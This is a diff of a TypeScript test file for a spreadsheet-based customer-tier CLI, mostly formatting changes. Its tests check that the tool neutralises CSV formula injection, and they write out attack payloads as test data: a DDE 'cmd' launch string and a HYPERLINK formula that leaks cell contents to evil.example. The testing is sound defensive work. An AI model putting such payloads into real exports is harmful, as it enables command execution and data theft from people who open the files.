@@ -22,7 +22,10 @@ type Run = { code: number; out: string; err: string };
 /** An expected failure: exit code 2, nothing on stdout, one "ka-planner:" line naming the file and the details. */
 function expectFailure(r: Run, file: string, ...details: (string | RegExp)[]): string {
   expect({ code: r.code, out: r.out }).toEqual({ code: 2, out: "" });
-  const lines = r.err.trimEnd().split("\n").filter((l) => l.startsWith("ka-planner:"));
+  const lines = r.err
+    .trimEnd()
+    .split("\n")
+    .filter((l) => l.startsWith("ka-planner:"));
   expect(lines).toHaveLength(1);
   const line = lines[0];
   expect(line).toContain(file);
@@ -39,7 +42,8 @@ async function tiers(file: string, ...args: string[]): Promise<{ customer: strin
   return JSON.parse(r.out);
 }
 
-const byName = (rows: { customer: string; value: number; tier: string }[]) => Object.fromEntries(rows.map((r) => [r.customer, [r.value, r.tier]]));
+const byName = (rows: { customer: string; value: number; tier: string }[]) =>
+  Object.fromEntries(rows.map((r) => [r.customer, [r.value, r.tier]]));
 
 describe("CSV as Excel and other programs export it", () => {
   it("BOM, semicolons, CRLF, quoted line breaks and delimiters, ragged rows, Chinese headers", async () => {
@@ -192,7 +196,13 @@ describe("xlsx as people build them", () => {
   });
 
   it("a two-row header: the second header row is reported as data, naming its cell", async () => {
-    expectFailure(await cli("tiers", book, "--sheet", "Two-row header"), book, 'sheet "Two-row header"', 'column "Revenue" (B), row 2', '"Net" is not a number');
+    expectFailure(
+      await cli("tiers", book, "--sheet", "Two-row header"),
+      book,
+      'sheet "Two-row header"',
+      'column "Revenue" (B), row 2',
+      '"Net" is not a number',
+    );
   });
 
   it("hidden rows count, as in Excel's SUM and a KA function over the range", async () => {
@@ -215,7 +225,12 @@ describe("xlsx as people build them", () => {
 
   it("a date where a number belongs, and a date cell past the date range (#######), name their cells", async () => {
     expectFailure(await cli("tiers", book, "--sheet", "Dates"), book, 'column "Revenue" (C), row 3', '"2025-04-02" is not a number');
-    expectFailure(await cli("tiers", book, "--sheet", "Date out of range"), book, 'column "Revenue" (B), row 3', '"#######" is not a number');
+    expectFailure(
+      await cli("tiers", book, "--sheet", "Date out of range"),
+      book,
+      'column "Revenue" (B), row 3',
+      '"#######" is not a number',
+    );
   });
 
   it("an empty sheet and an unknown sheet", async () => {
@@ -227,9 +242,20 @@ describe("xlsx as people build them", () => {
     // exceljs#3064: the streaming reader lost the entries still buffered when the zip parser
     // ended early; with six sheets nearly every read of such a workbook failed.
     const wb = new ExcelJS.Workbook();
-    wb.addWorksheet("First").addRows([["Customer", "Revenue"], ["A", 9], ["B", 1]]);
-    wb.addWorksheet("Second").addRows([["Customer", "Revenue"], ["C", 5]]);
-    for (const name of ["Third", "Fourth", "Fifth", "Sixth"]) wb.addWorksheet(name).addRows([["Customer", "Revenue"], ["D", 1]]);
+    wb.addWorksheet("First").addRows([
+      ["Customer", "Revenue"],
+      ["A", 9],
+      ["B", 1],
+    ]);
+    wb.addWorksheet("Second").addRows([
+      ["Customer", "Revenue"],
+      ["C", 5],
+    ]);
+    for (const name of ["Third", "Fourth", "Fifth", "Sixth"])
+      wb.addWorksheet(name).addRows([
+        ["Customer", "Revenue"],
+        ["D", 1],
+      ]);
     const p = path.join(tempDir(), "exceljs.xlsx");
     await wb.xlsx.writeFile(p);
     const names = Object.keys((await JSZip.loadAsync(fs.readFileSync(p))).files);
@@ -247,15 +273,26 @@ describe("the compiled command line in a child process", () => {
 
   beforeAll(() => {
     const out = tempDir("ka-planner-hostile-cli-");
-    execFileSync(process.execPath, [path.join(ROOT, "node_modules", "typescript", "bin", "tsc"), "-p", "tsconfig.cli.json", "--outDir", out], { cwd: ROOT, stdio: "pipe" });
+    execFileSync(
+      process.execPath,
+      [path.join(ROOT, "node_modules", "typescript", "bin", "tsc"), "-p", "tsconfig.cli.json", "--outDir", out],
+      { cwd: ROOT, stdio: "pipe" },
+    );
     main = path.join(out, "cli", "main.js");
   }, 240000);
 
   it("reading and leaving a workbook early never ends in an unhandled error (exit code 2, one line)", async () => {
     const wb = new ExcelJS.Workbook();
-    wb.addWorksheet("Data").addRows([["Customer", "Revenue"], ["A", 1]]);
+    wb.addWorksheet("Data").addRows([
+      ["Customer", "Revenue"],
+      ["A", 1],
+    ]);
     wb.addWorksheet("Empty");
-    for (const name of ["More", "Still more", "Last"]) wb.addWorksheet(name).addRows([["Customer", "Revenue"], ["B", 2]]);
+    for (const name of ["More", "Still more", "Last"])
+      wb.addWorksheet(name).addRows([
+        ["Customer", "Revenue"],
+        ["B", 2],
+      ]);
     const p = path.join(tempDir(), "early.xlsx");
     await wb.xlsx.writeFile(p);
     for (let i = 0; i < 8; i++) {
@@ -265,14 +302,25 @@ describe("the compiled command line in a child process", () => {
   }, 120000);
 
   it("Ctrl-C while the reader holds an inflated copy of a sheet leaves no temporary file behind", async () => {
-    let rows = row(1, [["A", "Customer"], ["B", "Revenue"]]);
-    for (let r = 2; r <= 150_000; r++) rows += row(r, [["A", `Customer ${r % 5000}`], ["B", r]]);
+    let rows = row(1, [
+      ["A", "Customer"],
+      ["B", "Revenue"],
+    ]);
+    for (let r = 2; r <= 150_000; r++)
+      rows += row(r, [
+        ["A", `Customer ${r % 5000}`],
+        ["B", r],
+      ]);
     const dir = tempDir();
     const p = path.join(dir, "parked.xlsx");
     // The sheet stored before the workbook: ExcelJS inflates it into a temporary file first.
     fs.writeFileSync(p, await xlsxPackage(sheetXml(rows), { order: "sheet-first" }));
     const tmp = tempDir("ka-planner-sigint-tmp-");
-    const files = (): string[] => fs.readdirSync(tmp, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).map((e) => e.name);
+    const files = (): string[] =>
+      fs
+        .readdirSync(tmp, { recursive: true, withFileTypes: true })
+        .filter((e) => e.isFile())
+        .map((e) => e.name);
     const child = spawn(process.execPath, [main, "tiers", p, "--format", "json"], { env: { ...env, TMPDIR: tmp }, stdio: "ignore" });
     const exited = new Promise<number | null>((resolve) => child.on("exit", (code) => resolve(code)));
     let seen: string[] = [];
@@ -309,8 +357,15 @@ describe("the compiled command line in a child process", () => {
     // Peak RSS of the child, reported by a preloaded exit hook (KiB on Linux and macOS).
     const hook = path.join(dir, "rss.js");
     const rssFile = path.join(dir, "rss.txt");
-    fs.writeFileSync(hook, `process.on("exit", () => require("fs").writeFileSync(${JSON.stringify(rssFile)}, String(process.resourceUsage().maxRSS)));\n`);
-    const r = spawnSync(process.execPath, ["-r", hook, main, "tiers", p, "--summary", "--format", "json"], { env, encoding: "utf8", maxBuffer: 1 << 26 });
+    fs.writeFileSync(
+      hook,
+      `process.on("exit", () => require("fs").writeFileSync(${JSON.stringify(rssFile)}, String(process.resourceUsage().maxRSS)));\n`,
+    );
+    const r = spawnSync(process.execPath, ["-r", hook, main, "tiers", p, "--summary", "--format", "json"], {
+      env,
+      encoding: "utf8",
+      maxBuffer: 1 << 26,
+    });
     expect(r.stderr).not.toMatch(/^ka-planner:/m);
     expect(r.status).toBe(0);
     const summary = JSON.parse(r.stdout) as { tier: string; customers: number; value: number }[];
@@ -331,7 +386,8 @@ describe("formula injection in --format csv (OWASP CSV injection)", () => {
     for (const s of ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTab", "\r=1", " =1+1", "\u3000=1", "-", "+", "@", "=", "-1e5"]) {
       expect(neutraliseFormula(s)).toBe(`'${s}`);
     }
-    for (const s of ["Acme", "a=b", "(1)", "1-2", "-1,234.50", "+12%", "-7", " -12.5 ", "#N/A", "'=already"]) expect(neutraliseFormula(s)).toBe(s);
+    for (const s of ["Acme", "a=b", "(1)", "1-2", "-1,234.50", "+12%", "-7", " -12.5 ", "#N/A", "'=already"])
+      expect(neutraliseFormula(s)).toBe(s);
     expect(csvField(-7)).toBe("-7");
     expect(csvField("\r=1")).toBe(`"'\r=1"`);
     expect(csvField('=A1&","')).toBe(`"'=A1&"","""`);
@@ -358,7 +414,9 @@ describe("formula injection in --format csv (OWASP CSV injection)", () => {
         .trimEnd()
         .split("\r\n")
         .slice(1)
-        .map((line) => (line.startsWith('"') ? line.slice(1, line.indexOf('",')).replace(/""/g, '"') : line.split(",")[command === "pareto" ? 1 : 0]));
+        .map((line) =>
+          line.startsWith('"') ? line.slice(1, line.indexOf('",')).replace(/""/g, '"') : line.split(",")[command === "pareto" ? 1 : 0],
+        );
       const dangerous = names.filter((n) => /^[=+\-@\t\r]/.test(n));
       expect(dangerous).toEqual([]);
       expect(r.out).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
